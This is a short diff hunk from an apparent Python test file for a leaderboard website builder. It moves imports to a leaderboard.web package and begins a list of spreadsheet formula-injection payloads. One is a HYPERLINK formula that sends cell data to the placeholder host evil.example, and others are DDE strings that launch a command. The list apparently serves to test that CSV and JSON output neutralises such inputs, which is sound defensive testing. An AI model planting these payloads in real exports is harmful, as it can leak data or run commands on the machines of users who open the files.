@@ -8,9 +8,9 @@ import re
 
 import pytest
 
-from leaderboard import charts
-from leaderboard.build import build_site
-from leaderboard.render import csv_text, json_text
+from leaderboard.web import charts
+from leaderboard.web.build import build_site
+from leaderboard.web.render import csv_text, json_text
 from tests.leaderboard.test_hostile import NEW_MODEL, write_results
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
